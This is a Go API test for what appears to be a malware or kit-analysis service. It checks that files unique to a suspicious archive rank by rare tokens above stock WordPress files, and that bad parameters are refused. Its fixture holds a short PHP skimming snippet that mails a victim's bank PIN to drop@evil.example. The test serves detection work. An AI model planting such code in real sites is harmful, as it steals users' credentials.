package api_test

import (
	"context"
	"encoding/json"
	"net/http"
	"testing"

	"dewar/cas"
	"dewar/gateway"
	"dewar/test/fixtures"
)

// TestJobRare: a kit's own file ranks by its rare tokens and the stock
// file it shares with a known-good job does not; the file page shows its
// rarest tokens; bad parameters and unknown jobs are refused.
func TestJobRare(t *testing.T) {
	e := newEnv(t)
	e.analyzeAll = true
	ctx := context.Background()
	stock := []byte("<?php\nfunction wp_stock_loader($plugin_dir) { return include_once $plugin_dir . '/loader.php'; }\n")
	kit := []byte("<?php\n$victim_bank_pin = $_POST['pin'];\nmail('drop@evil.example', 'pin', $victim_bank_pin);\n")
	e.ingest("wordpress.zip", true, fixtures.Tree{{Path: "wp/load.php", Type: "file", Body: stock}}, nil)
	j := e.ingest("kit.zip", false, fixtures.Tree{
		{Path: "wp", Type: "dir"},
		{Path: "wp/load.php", Type: "file", Body: stock},
		{Path: "wp/kit/pin.php", Type: "file", Body: kit},
	}, nil)
	for {
		n, err := e.idx.CountJobTokens(ctx, 10)
		if err != nil {
			t.Fatal(err)
		}
		if n == 0 {
			break
		}
	}
	rare := func(query string) gateway.RareFiles {
		t.Helper()
		st, b := e.call("GET", "/api/v1/jobs/"+j.ID+"/rare"+query, readerKey, readerSecret, nil)
		if st != http.StatusOK {
			t.Fatalf("rare%s: %d %s", query, st, b)
		}
		var r gateway.RareFiles
		if err := json.Unmarshal(b, &r); err != nil {
			t.Fatal(err)
		}
		return r
	}
	r := rare("")
	if r.Job != j.ID || r.MaxJobs != 1 || len(r.Items) != 1 {
		t.Fatalf("rare files: %+v", r)
	}
	it := r.Items[0]
	if it.Path != "wp/kit/pin.php" || it.SHA256 != cas.Sum(kit) || it.RareTokens == 0 || it.RareTokens != it.Tokens ||
		len(it.Rarest) == 0 || len(it.Rarest) > 5 || it.Rarest[0].Jobs != 1 {
		t.Errorf("the kit's file: %+v", it)
	}
	// Within two jobs the stock file's tokens count too: both files, the
	// kit's first (all its tokens) unless the stock one has more.
	if r := rare("?max_jobs=2&limit=10"); len(r.Items) != 2 || r.Items[0].RareTokens < r.Items[1].RareTokens {
		t.Errorf("max_jobs=2: %+v", r)
	}
	if r := rare("?max_jobs=2&limit=1"); len(r.Items) != 1 {
		t.Errorf("limit=1: %d items", len(r.Items))
	}

	f, err := e.reader.File(ctx, cas.Sum(kit).String())
	if err != nil {
		t.Fatal(err)
	}
	st, b := e.call("GET", "/api/v1/files/"+cas.Sum(stock).String(), readerKey, readerSecret, nil)
	var stockView struct {
		RareTokens []gateway.RareToken `json:"rare_tokens"`
	}
	if err := json.Unmarshal(b, &stockView); st != http.StatusOK || err != nil {
		t.Fatalf("stock file: %d %s", st, b)
	}
	if len(stockView.RareTokens) == 0 || len(stockView.RareTokens) > gateway.FileRareTokens || stockView.RareTokens[0].Jobs != 2 {
		t.Errorf("the stock file's rarest tokens: %+v", stockView.RareTokens)
	}
	if len(f.RareTokens) == 0 || f.RareTokens[0].Jobs != 1 {
		t.Errorf("the kit file's rarest tokens: %+v", f.RareTokens)
	}

	for _, c := range []struct {
		path, code string
		status     int
	}{
		{"/api/v1/jobs/" + j.ID + "/rare?max_jobs=-1", "invalid", 400},
		{"/api/v1/jobs/" + j.ID + "/rare?max_jobs=x", "invalid", 400},
		{"/api/v1/jobs/" + j.ID + "/rare?limit=0", "invalid", 400},
		{"/api/v1/jobs/" + j.ID + "/rare?limit=1001", "invalid", 400},
		{"/api/v1/jobs/01JZZZZZZZZZZZZZZZZZZZZZZZ/rare", "not_found", 404},
	} {
		st, b := e.call("GET", c.path, readerKey, readerSecret, nil)
		if st != c.status || errorCode(t, b) != c.code {
			t.Errorf("%s: %d %s, want %d %s", c.path, st, b, c.status, c.code)
		}
	}
	if st, _ := e.call("GET", "/api/v1/jobs/"+j.ID+"/rare", "", "", nil); st != http.StatusUnauthorized {
		t.Errorf("without credentials: %d", st)
	}
}
